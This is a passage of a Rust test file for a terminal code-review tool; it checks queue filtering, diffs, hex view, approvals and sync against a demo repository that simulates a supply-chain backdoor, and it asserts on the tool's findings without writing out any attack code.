//! The TUI on the demo, without a terminal: key sequences through the
//! pure update function (jobs run synchronously by a tiny driver, their
//! real results fed back), and every view drawn on ratatui's TestBackend
//! and compared with insta snapshots at 80×24 and 160×48.

use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use ratatui::backend::TestBackend;
use ratatui::Terminal;

mod support;

use rearview::config::Config;
use rearview::jobs::{self, Job, JobContext, Reply, Report, Request};
use rearview::render::theme::Theme;
use rearview::tui::app::{App, Effect, Msg, Overlay, Screen, Session, StatusFilter};
use rearview::tui::keymap::Keymap;
use rearview::tui::style::Styles;
use rearview::tui::view;

/// 2024-06-01T00:00:00Z: ages in snapshots do not move.
const NOW: i64 = 1_717_200_000;

struct Demo {
    _dir: tempfile::TempDir,
    ctx: JobContext,
}

fn demo_with(config: Config) -> Demo {
    let dir = tempfile::tempdir().expect("temp dir");
    let repo = dir.path().join("quill");
    let db = dir.path().join("db.sqlite3");
    rearview::pipeline::demo::build(&repo, Some(&db)).expect("demo builds");
    // Who reviews: the actions record git's user.email.
    git2::Repository::open(&repo)
        .and_then(|r| r.config())
        .and_then(|mut c| c.set_str("user.email", "reviewer@example.org"))
        .expect("set user.email");
    let ctx = JobContext { repo, db, config, github_api: None, theme: Theme::default() };
    Demo { _dir: dir, ctx }
}

fn demo() -> Demo {
    let mut config = Config::default();
    config.github.repository = Some("python/quill".into());
    demo_with(config)
}

/// Runs effects the way the real loop does, but synchronously: jobs
/// complete at once and their reports go back into the app.
struct Driver {
    app: App,
    ctx: JobContext,
    /// Effects other than jobs, in order.
    effects: Vec<Effect>,
    /// The screen just before the last sync ended.
    during_sync: Option<String>,
    /// Queue jobs run so far.
    queue_loads: usize,
}

impl Driver {
    fn new(demo: &Demo, width: u16, height: u16) -> Driver {
        let keymap = Keymap::new(&demo.ctx.config.keys).expect("keymap");
        let app = App::new(keymap, Styles::new(Theme::default(), true), Session::default(), false);
        let mut driver = Driver { app, ctx: demo.ctx.clone(), effects: Vec::new(), during_sync: None, queue_loads: 0 };
        driver.send(Msg::Resize(width, height));
        driver.send(Msg::Tick(NOW));
        let start = driver.app.start();
        driver.run(start);
        driver
    }

    fn send(&mut self, msg: Msg) {
        let effects = self.app.update(msg);
        self.run(effects);
    }

    fn run(&mut self, effects: Vec<Effect>) {
        for effect in effects {
            match effect {
                Effect::Job(job) => self.job(job),
                other => self.effects.push(other),
            }
        }
    }

    fn job(&mut self, Job { id, request }: Job) {
        let replies = match request {
            Request::CachedQueue => vec![Reply::Queue(jobs::load_cached_queue_blocking(&self.ctx))],
            Request::Queue { depth, whole } => {
                self.queue_loads += 1;
                vec![Reply::Queue(jobs::load_queue_at_blocking(&self.ctx, depth, whole))]
            }
            Request::Diff { sha, width, side_by_side, drift_of } => {
                match jobs::render_diff_blocking(&self.ctx, &sha, width, side_by_side, drift_of.as_deref()) {
                    Ok(parts) => parts.into_iter().map(Reply::Diff).chain([Reply::DiffDone(Ok(()))]).collect(),
                    Err(e) => vec![Reply::DiffDone(Err(e))],
                }
            }
            Request::Hex { path, old_blob, new_blob } => {
                vec![Reply::Hex(jobs::load_hex_blocking(&self.ctx, &path, old_blob.as_deref(), new_blob.as_deref()))]
            }
            Request::Record { sha, pr, kind, note } => {
                vec![Reply::Recorded(jobs::record_blocking(&self.ctx, &sha, pr, kind, &note))]
            }
            Request::PushOutbox => vec![Reply::Pushed(jobs::push_blocking(&self.ctx))],
            Request::Release { branch } => vec![Reply::Release(jobs::release_audit_blocking(&self.ctx, &branch))],
            Request::VerifyArchive { tag, path } => {
                vec![Reply::Archive(jobs::verify_archive_blocking(&self.ctx, &tag, &path))]
            }
            Request::People => vec![Reply::People(jobs::people_blocking(&self.ctx))],
            Request::BlastRadius { who } => vec![Reply::BlastRadius(jobs::blast_radius_blocking(&self.ctx, &who))],
            Request::Trends => vec![Reply::Trends(jobs::trends_blocking(&self.ctx))],
            Request::Binaries => vec![Reply::Binaries(jobs::binaries_blocking(&self.ctx))],
            Request::Sync => {
                let events = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
                let sink = events.clone();
                let record = move |e| {
                    if let Ok(mut v) = sink.lock() {
                        v.push(e)
                    }
                };
                let outcome = jobs::sync_blocking(&self.ctx, std::sync::Arc::new(record));
                let events = events.lock().map(|v| v.clone()).unwrap_or_default();
                for event in events {
                    self.send(Msg::Report(Box::new(Report { id, reply: Reply::SyncEvent(event) })));
                }
                // What the status bar said while the sync ran.
                self.during_sync = Some(self.screen());
                vec![Reply::SyncDone(outcome)]
            }
        };
        for reply in replies {
            self.send(Msg::Report(Box::new(Report { id, reply })));
        }
    }

    fn key(&mut self, code: KeyCode) {
        self.send(Msg::Key(KeyEvent::new(code, KeyModifiers::NONE)));
    }

    fn keys(&mut self, text: &str) {
        for c in text.chars() {
            self.key(KeyCode::Char(c));
        }
    }

    fn ctrl(&mut self, c: char) {
        self.send(Msg::Key(KeyEvent::new(KeyCode::Char(c), KeyModifiers::CONTROL)));
    }

    fn selected_title(&self) -> String {
        self.app.selected().map(|c| c.title.clone()).unwrap_or_default()
    }

    /// Selects the change whose title contains `text` with the queue's search.
    fn select(&mut self, text: &str) {
        self.keys("/");
        self.keys(text);
        self.key(KeyCode::Enter);
        assert!(self.selected_title().contains(text), "selected {:?} for {text:?}", self.selected_title());
    }

    fn screen(&self) -> String {
        let backend = TestBackend::new(self.app.width, self.app.height);
        let mut terminal = Terminal::new(backend).expect("terminal");
        terminal.draw(|frame| view::draw(frame, &self.app)).expect("draw");
        let buffer = terminal.backend().buffer();
        let mut out = String::new();
        for y in 0..buffer.area.height {
            let mut line = String::new();
            for x in 0..buffer.area.width {
                line.push_str(buffer[(x, y)].symbol());
            }
            out.push_str(line.trim_end());
            out.push('\n');
        }
        out
    }

    fn notice(&self) -> String {
        self.app.notice.as_ref().map(|n| n.text.clone()).unwrap_or_default()
    }
}

fn snapshot(name: &str, driver: &Driver) {
    let size = format!("{}x{}", driver.app.width, driver.app.height);
    insta::assert_snapshot!(format!("{name}_{size}"), driver.screen());
}

#[test]
fn the_approve_dialog_warns_the_author_and_enter_records_nothing() {
    let demo = demo();
    let title = "Reject identifiers that start with a combining mark";
    let author = {
        let mut d = Driver::new(&demo, 160, 48);
        d.select(title);
        d.app.selected().map(|c| c.author_email.clone()).expect("selected")
    };
    git2::Repository::open(&demo.ctx.repo)
        .and_then(|r| r.config())
        .and_then(|mut c| c.set_str("user.email", &author))
        .expect("set user.email");
    let mut d = Driver::new(&demo, 160, 48);
    d.select(title);
    d.keys("a");
    let screen = d.screen();
    assert!(screen.contains("will not count") && screen.contains("is the pull request's author"), "{screen}");
    d.key(KeyCode::Enter);
    assert!(d.notice().contains("not recorded"), "{}", d.notice());
    let store = rearview::store::Store::open(&demo.ctx.db).expect("store");
    assert!(store.outbox(true).expect("outbox").is_empty(), "nothing recorded");
}

// ---------------------------------------------------------------------------
// Snapshots: each view and dialog at both sizes.

#[test]
fn every_view_and_dialog_at_both_sizes() {
    let demo = demo();
    for (w, h) in [(80, 24), (160, 48)] {
        let mut d = Driver::new(&demo, w, h);
        d.select("Reject identifiers that start with a combining mark");
        snapshot("queue", &d);

        d.key(KeyCode::Char('f'));
        snapshot("filter_dialog", &d);
        d.key(KeyCode::Esc);

        d.keys("a");
        snapshot("approve_dialog", &d);
        d.key(KeyCode::Esc);

        d.keys("c");
        d.keys("Why was this not reviewed?");
        snapshot("concern_dialog", &d);
        d.key(KeyCode::Esc);

        d.keys("?");
        snapshot("help", &d);
        d.key(KeyCode::Esc);

        d.key(KeyCode::Enter);
        snapshot("diff_unified", &d);
        d.keys("s");
        snapshot("diff_side_by_side", &d);
        d.keys("s/");
        d.keys("ident");
        snapshot("diff_search_input", &d);
        d.key(KeyCode::Enter);
        d.keys("q");

        d.select("Add test files for corrupt LZMA2 streams");
        d.keys("x");
        assert_eq!(d.app.screen, Screen::Hex);
        snapshot("hex", &d);
        d.keys("q");
        d.select("[3.12] gh-91028: Reject identifiers");
        d.keys("R");
        assert_eq!(d.app.screen, Screen::Release);
        snapshot("release", &d);
        d.keys("q");

        d.keys("P");
        assert_eq!(d.app.screen, Screen::People);
        snapshot("people", &d);
        // The fast escalation, right under the dormant maintainer.
        d.keys("j");
        d.key(KeyCode::Enter);
        assert_eq!(d.app.screen, Screen::Blast);
        assert!(d.screen().contains("Jia Tan"), "{}", d.screen());
        snapshot("blast_radius", &d);
        d.keys("qq");

        d.keys("B");
        assert_eq!(d.app.screen, Screen::Binaries);
        snapshot("binaries", &d);
    }
}

#[test]
fn a_tiny_terminal_says_so() {
    let demo = demo();
    let d = Driver::new(&demo, 40, 10);
    let screen = d.screen();
    assert!(screen.contains("terminal too small"), "{screen}");
    assert!(screen.contains("need 60×12, have 40×10"), "{screen}");
}

// ---------------------------------------------------------------------------
// Key sequences.

#[test]
fn the_queue_opens_on_pending_changes_and_moves_with_j_k_g_g() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    let data = d.app.data().expect("queue loaded");
    let pending = data.queue.changes.iter().filter(|c| c.pending).count();
    assert_eq!(d.app.view.visible.len(), pending, "default filter: pending only");
    assert!(pending > 3 && pending < data.queue.changes.len());
    // The first screen's change stays selected through the full build (the
    // scans re-sort the list under it); g goes to the top.
    d.keys("g");
    assert_eq!(d.app.view.selected, 0);
    d.keys("jj");
    assert_eq!(d.app.view.selected, 2);
    d.keys("k");
    assert_eq!(d.app.view.selected, 1);
    d.keys("G");
    assert_eq!(d.app.view.selected, pending - 1);
    d.keys("j");
    assert_eq!(d.app.view.selected, pending - 1, "stays at the end");
    d.keys("g");
    assert_eq!(d.app.view.selected, 0);
}

#[test]
fn the_filter_dialog_widens_and_narrows_the_queue() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    let total = d.app.data().map(|q| q.queue.changes.len()).expect("loaded");
    d.keys("f");
    d.key(KeyCode::Right);
    d.key(KeyCode::Enter);
    assert_eq!(d.app.view.filter.status, StatusFilter::All);
    assert_eq!(d.app.view.visible.len(), total);

    // Kind: backport; branch: the maintenance branch.
    d.keys("f");
    d.key(KeyCode::Down);
    d.key(KeyCode::Right);
    d.key(KeyCode::Right);
    d.key(KeyCode::Down);
    d.key(KeyCode::Right);
    d.key(KeyCode::Right);
    d.key(KeyCode::Enter);
    let data = d.app.data().expect("loaded");
    assert!(!d.app.view.visible.is_empty());
    for &i in &d.app.view.visible {
        let c = &data.queue.changes[i];
        assert_eq!(c.kind, rearview::model::ChangeKind::Backport, "{}", c.title);
        assert_eq!(c.branch, "3.12");
    }

    // Path glob: only changes touching an .m4 file.
    d.keys("f");
    for _ in 0..4 {
        d.key(KeyCode::Down);
    }
    d.keys("*.m4");
    d.key(KeyCode::Enter);
    assert_eq!(d.app.view.visible.len(), 1);
    assert!(d.selected_title().contains("build-to-host.m4"), "{}", d.selected_title());

    // Esc leaves the filter as it was.
    d.keys("f");
    d.key(KeyCode::Left);
    d.key(KeyCode::Esc);
    assert!(d.app.overlay.is_none());
    assert_eq!(d.app.view.visible.len(), 1);
}

#[test]
fn fuzzy_search_filters_titles_as_you_type_and_esc_clears_it() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    let all = d.app.view.visible.len();
    d.keys("/lzma");
    assert!(matches!(d.app.overlay, Some(Overlay::Input { .. })));
    let shown = d.app.view.visible.len();
    assert!(shown >= 1 && shown < all, "{shown} of {all}");
    let data = d.app.data().expect("loaded");
    for &i in &d.app.view.visible {
        assert!(data.queue.changes[i].title.to_lowercase().contains("lzma"));
    }
    d.key(KeyCode::Esc);
    assert_eq!(d.app.view.visible.len(), all);
}

#[test]
fn a_new_filter_or_search_starts_the_queue_over_at_its_first_row() {
    let demo = demo();
    let mut d = Driver::new(&demo, 80, 24);
    // The whole queue, the selection at its end and the list scrolled.
    d.keys("f");
    d.key(KeyCode::Right);
    d.key(KeyCode::Enter);
    d.keys("G");
    assert!(d.app.view.offset > 0, "the list scrolled");
    // A filter that keeps the selected change still starts at the top.
    d.keys("f");
    d.key(KeyCode::Down);
    d.key(KeyCode::Right);
    d.key(KeyCode::Enter);
    assert!(d.app.view.visible.len() > 1);
    assert_eq!((d.app.view.selected, d.app.view.offset), (0, 0), "after the filter dialog");

    d.keys("G");
    let last = d.selected_title();
    let word = last.split_whitespace().find(|w| w.len() > 3).unwrap_or("e").to_lowercase();
    d.keys("/");
    d.keys(&word);
    assert_eq!((d.app.view.selected, d.app.view.offset), (0, 0), "after searching {word:?}");
    d.key(KeyCode::Enter);
    assert_eq!((d.app.view.selected, d.app.view.offset), (0, 0));
}

#[test]
fn the_queue_search_puts_the_best_matches_first() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    d.keys("f");
    d.key(KeyCode::Right);
    d.key(KeyCode::Enter);
    let mut mixed = 0;
    for query in ["scan", "mark", "test", "fix", "add", "build"] {
        d.keys("/");
        d.keys(query);
        let data = d.app.data().expect("loaded");
        let titles: Vec<String> =
            d.app.view.visible.iter().map(|&i| data.queue.changes[i].title.to_lowercase()).collect();
        let exact = titles.iter().take_while(|t| t.contains(query)).count();
        assert!(titles[exact..].iter().all(|t| !t.contains(query)), "exact matches first for {query}: {titles:#?}");
        if exact > 0 && exact < titles.len() {
            mixed += 1;
        }
        d.key(KeyCode::Esc);
    }
    assert!(mixed > 0, "some query matched both whole and scattered");
}

#[test]
fn help_wraps_under_its_descriptions_and_stops_scrolling_at_its_end() {
    let demo = demo();
    for (w, h) in [(80, 24), (160, 48)] {
        let mut d = Driver::new(&demo, w, h);
        d.keys("?");
        for _ in 0..300 {
            d.keys("j");
        }
        let end = d.screen();
        assert!(end.contains("characters."), "the note's last words show at the end:\n{end}");
        snapshot("help_end", &d);
        let area = ratatui::layout::Rect::new(0, 0, w, h);
        let overflows = rearview::tui::help::Help::new(&d.app.help_lines(), area).max_scroll() > 0;
        assert!(overflows, "the keymap is longer than a screen at {w}×{h}");
        d.keys("k");
        assert_ne!(d.screen(), end, "one line up from the end moves at once");
    }
}

#[test]
fn sort_cycles_through_risk_age_branch_author() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    let mut seen = Vec::new();
    for _ in 0..4 {
        seen.push(d.app.view.sort.label());
        d.keys("S");
    }
    assert_eq!(seen, ["risk", "age", "branch", "author"]);
    d.keys("SS");
    let data = d.app.data().expect("loaded");
    let branches: Vec<&str> = d.app.view.visible.iter().map(|&i| data.queue.changes[i].branch.as_str()).collect();
    let mut sorted = branches.clone();
    sorted.sort();
    assert_eq!(branches, sorted, "sorted by branch");
}

#[test]
fn enter_opens_the_diff_and_navigation_keys_move_through_it() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    d.select("Add test files for corrupt LZMA2 streams");
    let sha = d.app.selected().map(|c| c.sha.clone()).expect("selected");
    d.key(KeyCode::Enter);
    assert_eq!(d.app.screen, Screen::Diff);
    let doc = d.app.diff.as_ref().expect("diff");
    assert_eq!(doc.sha, sha);
    assert_eq!(doc.files.len(), 3, "two binaries and a test");
    assert!(doc.done());

    d.keys("}");
    assert_eq!(d.app.diff.as_ref().and_then(|x| x.current_file()), Some(1));
    d.keys("}");
    assert_eq!(d.app.diff.as_ref().and_then(|x| x.current_file()), Some(2));
    d.keys("{");
    assert_eq!(d.app.diff.as_ref().and_then(|x| x.current_file()), Some(1));

    // Collapse the file at the top: its body disappears, the header stays.
    let before = d.app.diff.as_ref().map(|x| x.rows.len()).expect("rows");
    d.keys(" ");
    let after = d.app.diff.as_ref().map(|x| x.rows.len()).expect("rows");
    assert!(after < before, "{after} < {before}");
    assert!(d.screen().contains("collapsed"));
    d.keys(" ");
    assert_eq!(d.app.diff.as_ref().map(|x| x.rows.len()), Some(before));

    // The third file is text: ] goes to its hunk.
    d.keys("}]");
    let doc = d.app.diff.as_ref().expect("diff");
    let line = doc.rows[doc.top];
    assert_eq!(doc.tags[line], rearview::jobs::LineTag::HunkHeader);

    d.keys("q");
    assert_eq!(d.app.screen, Screen::Queue);
}

#[test]
fn search_in_a_diff_counts_matches_and_n_cycles_them() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    d.select("Add test files for corrupt LZMA2 streams");
    d.key(KeyCode::Enter);
    d.keys("/lzma");
    d.key(KeyCode::Enter);
    let search = d.app.diff.as_ref().and_then(|x| x.search.clone()).expect("search");
    assert!(search.matches.len() >= 2, "{search:?}");
    assert!(d.notice().contains("lines match"), "{}", d.notice());
    let first = d.app.diff.as_ref().map(|x| x.top).expect("top");
    d.keys("n");
    assert!(d.notice().starts_with("match 2 of"), "{}", d.notice());
    assert_ne!(d.app.diff.as_ref().map(|x| x.top), Some(first));
    d.keys("N");
    assert!(d.notice().starts_with("match 1 of"), "{}", d.notice());
    d.keys("/zzzznothing");
    d.key(KeyCode::Enter);
    assert!(d.notice().contains("no match"), "{}", d.notice());
}

#[test]
fn bang_jumps_to_the_hidden_bidi_characters() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    d.keys("f");
    d.key(KeyCode::Right);
    d.key(KeyCode::Enter);
    d.select("Add a helper for permission checks");
    d.key(KeyCode::Enter);
    d.keys("!");
    let screen = d.screen();
    assert!(screen.contains("⟨U+202E RLO⟩"), "{screen}");
    assert!(!screen.contains('\u{202E}'), "never the raw character");
    let doc = d.app.diff.as_ref().expect("diff");
    assert!(doc.top > 0, "moved to the finding");
}

#[test]
fn x_opens_the_binary_in_hex_with_its_payload_and_goto_and_findings_move() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    d.select("Add test files for corrupt LZMA2 streams");
    d.keys("x");
    assert_eq!(d.app.screen, Screen::Hex);
    let screen = d.screen();
    assert!(screen.contains("ELF header"), "{screen}");
    assert!(screen.contains("00000345"), "{screen}");
    assert!(screen.contains("xz"), "{screen}");

    d.keys(":0x340");
    d.key(KeyCode::Enter);
    assert_eq!(d.app.hex.as_ref().map(|h| h.top), Some(0x340));
    d.keys(":nonsense");
    d.key(KeyCode::Enter);
    assert!(d.notice().contains("is not an offset"), "{}", d.notice());

    d.keys("!");
    assert!(d.notice().starts_with("finding 1 of 5 at 0x270"), "{}", d.notice());
    d.keys("n");
    assert!(d.notice().starts_with("finding 2 of 5 at 0x345"), "{}", d.notice());
    d.keys("s");
    assert!(d.notice().contains("only one side"), "an added file has no old blob: {}", d.notice());

    d.keys("q");
    assert_eq!(d.app.screen, Screen::Queue, "back where x was pressed");
    assert!(d.notice().is_empty(), "the hex view's notice stayed behind");
}

#[test]
fn x_on_a_text_only_change_says_there_is_no_binary() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    d.select("Reject identifiers that start with a combining mark");
    d.keys("x");
    assert_eq!(d.app.screen, Screen::Diff);
    assert!(d.notice().contains("no binary files"), "{}", d.notice());
}

#[test]
fn open_in_browser_and_copy_name_the_pull_request() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    d.select("Reject identifiers that start with a combining mark");
    let change = d.app.selected().cloned().expect("selected");
    let pr = change.pr.expect("a pull request");
    d.keys("o");
    assert_eq!(d.effects.pop(), Some(Effect::OpenUrl(format!("https://github.com/python/quill/pull/{pr}"))));
    d.keys("y");
    assert_eq!(d.effects.pop(), Some(Effect::Copy(change.sha.clone())));
    d.keys("Y");
    assert_eq!(d.effects.pop(), Some(Effect::Copy(format!("https://github.com/python/quill/pull/{pr}"))));
    d.keys("a");
    let screen = d.screen();
    assert!(screen.contains(&format!("APPROVE, on python/quill#{pr}")), "{screen}");
    assert!(screen.contains("<!-- rearview:approval id=<assigned when recorded>"), "{screen}");
    assert!(screen.contains(&change.sha[..10]), "the change is named: {screen}");
    d.key(KeyCode::Esc);
    assert!(d.notice().contains("cancelled: nothing recorded"), "{}", d.notice());
}

#[test]
fn approving_in_the_demo_records_it_queues_it_and_the_queue_shows_it_approved() {
    let demo = demo_with(Config::default());
    let mut d = Driver::new(&demo, 160, 48);
    d.select("Reject identifiers that start with a combining mark");
    let sha = d.app.selected().map(|c| c.sha.clone()).expect("selected");
    d.keys("a");
    d.keys("Read the drift.");
    d.key(KeyCode::Enter);
    assert!(d.app.overlay.is_none());
    assert!(d.notice().contains("queued (demo, no remote)"), "{}", d.notice());
    let data = d.app.data().expect("queue");
    let change = data.queue.changes.iter().find(|c| c.sha == sha).expect("still listed");
    assert_eq!(change.verdict, rearview::model::Verdict::ApprovedAfterMerge);
    assert_eq!(data.outbox, 1);
    assert!(d.screen().contains("outbox 1"));

    // A concern needs a reason; with one it is recorded too.
    d.keys("f");
    d.key(KeyCode::Right);
    d.key(KeyCode::Enter);
    d.select("Reject identifiers that start with a combining mark");
    d.keys("c");
    d.key(KeyCode::Enter);
    assert!(d.notice().contains("needs its reason"), "{}", d.notice());
    assert!(d.app.overlay.is_some(), "the dialog stays open");
    d.keys("The drift adds a call.");
    d.key(KeyCode::Enter);
    let data = d.app.data().expect("queue");
    let change = data.queue.changes.iter().find(|c| c.sha == sha).expect("listed");
    assert_eq!(change.verdict, rearview::model::Verdict::ConcernRaised);
    assert_eq!(data.outbox, 2);
}

#[test]
fn without_a_known_repository_open_says_what_to_configure() {
    let demo = demo_with(Config::default());
    let mut d = Driver::new(&demo, 160, 48);
    d.keys("o");
    assert!(d.effects.is_empty());
    assert!(d.notice().contains("set github.repository"), "{}", d.notice());
}

#[test]
fn quitting_saves_the_selection_and_filter_and_they_come_back() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    d.keys("f");
    d.key(KeyCode::Right);
    d.key(KeyCode::Enter);
    d.select("Explain the checker in the README");
    d.key(KeyCode::Esc);
    assert!(d.effects.is_empty(), "esc first drops the search");
    assert!(d.selected_title().contains("Explain the checker"), "and keeps the selection");
    d.keys("q");
    let Some(Effect::SaveSession(session)) = d.effects.first().cloned() else {
        panic!("saves the session first: {:?}", d.effects)
    };
    assert_eq!(d.effects.last(), Some(&Effect::Quit));
    assert_eq!(session.filter.status, StatusFilter::All);

    let keymap = Keymap::default();
    let mut app = App::new(keymap, Styles::new(Theme::default(), true), session, false);
    app.update(Msg::Resize(160, 48));
    let Some(Effect::Job(job)) = app.start().pop() else { panic!("loads the queue") };
    let data = jobs::load_queue_blocking(&demo.ctx, false).expect("queue");
    app.update(Msg::Report(Box::new(Report { id: job.id, reply: Reply::Queue(Ok(data)) })));
    assert!(app.selected().is_some_and(|c| c.title.contains("Explain the checker")));
    assert_eq!(app.view.filter.status, StatusFilter::All);
}

#[test]
fn stale_reports_are_dropped() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    d.key(KeyCode::Enter);
    let id = d.app.diff.as_ref().map(|x| x.id).expect("diff");
    let lines = d.app.diff.as_ref().map(|x| x.lines.len()).expect("lines");
    let part = rearview::jobs::DiffPart::Lines(vec![(rearview::jobs::LineTag::Body, Vec::new())]);
    d.send(Msg::Report(Box::new(Report { id: id - 1, reply: Reply::Diff(part) })));
    assert_eq!(d.app.diff.as_ref().map(|x| x.lines.len()), Some(lines), "an older job's piece is ignored");
}

#[test]
fn resizing_lays_the_diff_out_again_and_keeps_the_place() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    d.select("Add test files for corrupt LZMA2 streams");
    d.key(KeyCode::Enter);
    d.keys("}}");
    let width = d.app.diff.as_ref().map(|x| x.width).expect("diff");
    d.send(Msg::Resize(90, 30));
    let doc = d.app.diff.as_ref().expect("diff");
    assert_ne!(doc.width, width);
    assert_eq!(doc.width, 90, "no sidebar below 100 columns");
    assert_eq!(doc.current_file(), Some(2), "still on the third file");
}

#[test]
fn the_selection_resting_prefetches_its_diff() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    d.keys("j");
    let sha = d.app.selected().map(|c| c.sha.clone()).expect("selected");
    assert!(d.app.diff.is_none(), "not while moving");
    d.send(Msg::Tick(NOW));
    d.send(Msg::Tick(NOW));
    let doc = d.app.diff.as_ref().expect("prefetched");
    assert_eq!(doc.sha, sha);
    assert!(doc.done());
    assert_eq!(d.app.screen, Screen::Queue, "prefetch does not open it");
}

#[test]
fn help_lists_the_live_keymap_including_overrides() {
    let mut config = Config::default();
    config.keys.insert("next_hunk".into(), rearview::config::KeyList::One("ctrl-n".into()));
    let demo = demo_with(config);
    let mut d = Driver::new(&demo, 160, 48);
    d.keys("?");
    // The diff's keys come after the queue's: scroll down to them.
    let mut screen = d.screen();
    for _ in 0..40 {
        if screen.contains("next hunk") {
            break;
        }
        d.keys("j");
        screen = d.screen();
    }
    assert!(screen.contains("next hunk"), "{screen}");
    let line = screen.lines().find(|l| l.contains("next hunk")).unwrap_or_default();
    assert!(line.contains("ctrl-n"), "the override is listed: {line}");
    d.key(KeyCode::Esc);
    d.key(KeyCode::Enter);
    d.ctrl('n');
    let doc = d.app.diff.as_ref().expect("diff");
    assert_eq!(doc.tags[doc.rows[doc.top]], rearview::jobs::LineTag::HunkHeader, "ctrl-n is next hunk now");
}

#[test]
fn ctrl_c_quits_from_anywhere_and_a_failed_sync_says_why() {
    let mut config = Config::default();
    config.github.repository = Some("python/quill".into());
    // Nothing listens on port 9 of this host: refused at once.
    config.github.api = "http://127.0.0.1:9".into();
    config.github.backoff_ms = 1;
    let demo = demo_with(config);
    let mut d = Driver::new(&demo, 160, 48);
    d.keys("r");
    assert!(d.notice().contains("sync failed: cannot reach http://127.0.0.1:9"), "{}", d.notice());
    assert!(d.screen().contains("sync failed"));
    d.keys("?");
    d.ctrl('c');
    assert_eq!(d.effects.last(), Some(&Effect::Quit));
}

#[test]
fn r_syncs_with_github_in_the_background_then_rebuilds_the_queue() {
    let github = support::fake_github::FakeGitHub::start();
    let mut config = Config::default();
    config.github.repository = Some("quill-lang/quill".into());
    config.github.backoff_ms = 1;
    let mut demo = demo_with(config);
    demo.ctx.github_api = Some(github.url());
    github.add_repo("quill-lang", "quill");
    let seeded = rearview::pipeline::demo::build(&demo.ctx.repo, Some(&demo.ctx.db)).expect("demo");
    for pr in &seeded.pulls {
        let association = seeded.associations.get(&pr.author).map(String::as_str).unwrap_or("NONE");
        github.add_pull("quill-lang/quill", pr, association);
    }
    let mut d = Driver::new(&demo, 160, 48);
    let loads = d.queue_loads;
    d.keys("r");
    let during = d.during_sync.clone().expect("a sync ran");
    assert!(during.contains("syncing"), "progress in the status bar: {during}");
    assert!(d.notice().starts_with("synced quill-lang/quill"), "{}", d.notice());
    assert!(d.notice().contains(&format!("{} pull requests fetched", seeded.pulls.len())), "{}", d.notice());
    assert!(d.queue_loads > loads, "the queue is rebuilt after a sync");
    assert!(!github.requests().is_empty());
}

#[test]
fn the_next_start_draws_the_last_queue_before_the_fresh_one_is_built() {
    let demo = demo();
    let first = Driver::new(&demo, 160, 48);
    let fresh = first.app.data().map(|d| d.queue.changes.len()).expect("loaded");

    let keymap = Keymap::default();
    let mut app = App::new(keymap, Styles::new(Theme::default(), true), Session::default(), false);
    app.update(Msg::Resize(160, 48));
    let effects = app.start();
    let Some(Effect::Job(Job { id, request: Request::CachedQueue })) = effects.first().cloned() else {
        panic!("asks for the snapshot first: {effects:?}")
    };
    let snapshot = jobs::load_cached_queue_blocking(&demo.ctx).expect("the first run left a snapshot");
    app.update(Msg::Report(Box::new(Report { id, reply: Reply::Queue(Ok(snapshot)) })));
    let data = app.data().expect("drawn from the snapshot");
    assert!(data.cached);
    assert_eq!(data.queue.changes.len(), fresh);
    assert!(!app.view.visible.is_empty());
}

#[test]
fn the_mouse_wheel_scrolls_the_queue_and_the_diff() {
    use crossterm::event::{MouseEvent, MouseEventKind};
    let demo = demo();
    // Short enough that the first change's diff (45 lines) scrolls.
    let mut d = Driver::new(&demo, 160, 24);
    // From the top (the start keeps the first screen's change selected).
    d.keys("g");
    let wheel = |kind| Msg::Mouse(MouseEvent { kind, column: 10, row: 5, modifiers: KeyModifiers::NONE });
    d.send(wheel(MouseEventKind::ScrollDown));
    assert_eq!(d.app.view.selected, 3, "three rows a notch");
    d.send(wheel(MouseEventKind::ScrollUp));
    assert_eq!(d.app.view.selected, 0);
    d.key(KeyCode::Enter);
    d.send(wheel(MouseEventKind::ScrollDown));
    assert_eq!(d.app.diff.as_ref().map(|x| x.top), Some(3));
}

#[test]
fn without_colour_nothing_is_coloured_but_the_selection_still_shows() {
    let demo = demo();
    let keymap = Keymap::default();
    let mut d = Driver::new(&demo, 160, 48);
    d.app = App::new(keymap, Styles::new(Theme::default(), false), Session::default(), false);
    d.send(Msg::Resize(160, 48));
    d.send(Msg::Tick(NOW));
    let start = d.app.start();
    d.run(start);
    d.key(KeyCode::Enter);
    for screen in [Screen::Diff, Screen::Queue] {
        d.app.screen = screen;
        let backend = TestBackend::new(160, 48);
        let mut terminal = Terminal::new(backend).expect("terminal");
        terminal.draw(|frame| view::draw(frame, &d.app)).expect("draw");
        let buffer = terminal.backend().buffer();
        let coloured = buffer
            .content()
            .iter()
            .filter(|c| c.fg != ratatui::style::Color::Reset || c.bg != ratatui::style::Color::Reset);
        assert_eq!(coloured.count(), 0, "{screen:?} uses no colour");
        if screen == Screen::Queue {
            let reversed = buffer.content().iter().any(|c| c.modifier.contains(ratatui::style::Modifier::REVERSED));
            assert!(reversed, "the selected row is shown in reverse video");
        }
    }
}

#[test]
fn d_shows_only_a_backports_drift_and_toggles_back() {
    let demo = demo();
    let mut d = Driver::new(&demo, 160, 48);
    d.select("Reject identifiers that start with a combining mark");
    d.key(KeyCode::Enter);
    let whole = d.app.diff.as_ref().map(|x| x.lines.len()).expect("diff");
    d.keys("d");
    let screen = d.screen();
    assert!(screen.contains("drift from the original: 1 hunk only in the backport"), "{screen}");
    assert!(screen.contains("── only in the backport ──"), "{screen}");
    assert!(screen.contains("+#include <stdlib.h>"), "the drift itself: {screen}");
